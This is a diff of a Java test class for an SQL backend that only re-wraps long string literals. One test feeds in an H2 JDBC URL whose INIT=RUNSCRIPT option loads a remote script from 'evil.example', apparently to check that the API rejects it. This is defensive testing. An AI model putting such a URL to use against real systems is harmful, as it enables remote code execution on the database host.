@@ -100,7 +100,8 @@ class SqlBackendTest {
         BackendDefinition definition = definition(
                 """
                 {"url":"%s","timeoutMillis":%d,"maxRows":50,"statements":{
-                  "find":{"sql":"select * from pet where name = :name or born > cast(:since as date) order by id -- :not one",
+                  "find":{"sql":"select * from pet where name = :name or born > cast(:since as date) order by id -- \
+                :not one",
                     "parameters":{"since":{"type":"string"}}},
                   "rename":{"sql":"update pet set name = :name where id = :id;","writes":true,"idempotent":true},
                   "sneaky":{"sql":"update pet set name = 'gone ?; :x' where id = 1"},
@@ -249,7 +250,8 @@ class SqlBackendTest {
                         database.equals("h2")
                                 ? "select count(*) from information_schema.sessions where session_id <> session_id()"
                                         + " and executing_statement like '%system_range%'"
-                                : "select count(*) from pg_stat_activity where state = 'active' and pid <> pg_backend_pid()"
+                                : "select count(*) from pg_stat_activity where state = 'active' and pid <> "
+                                        + "pg_backend_pid()"
                                         + " and query like '%pg_sleep%'")) {
             row.next();
             return row.getInt(1);
@@ -259,7 +261,8 @@ class SqlBackendTest {
     @Test
     void databaseCannotBeConfiguredOverTheApi() {
         BackendDefinition sent = definition(
-                "{\"url\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/'\",\"statements\":{\"a\":{\"sql\":\"select 1\"}}}",
+                "{\"url\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM "
+                        + "'http://evil.example/'\",\"statements\":{\"a\":{\"sql\":\"select 1\"}}}",
                 BackendDefinition.BackendOrigin.API);
         assertThatThrownBy(() -> kind().check(BackendSettings.of(sent)))
                 .isInstanceOf(InvalidBackendException.class)
